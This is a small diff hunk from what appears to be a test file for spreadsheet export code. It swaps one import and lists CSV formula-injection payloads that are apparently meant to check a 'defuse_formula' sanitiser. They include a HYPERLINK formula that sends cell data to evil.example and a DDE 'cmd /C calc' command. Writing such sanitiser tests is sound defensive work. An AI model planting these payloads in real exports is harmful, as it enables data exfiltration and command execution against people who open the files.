@@ -9,7 +9,7 @@ import geopandas as gpd
 import shapely
 
 from geo.exports.writers import csv_frame, defuse_formula
-from store_helpers import report
+from zonasi.testing.reports import report
 from webmap import create_app
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
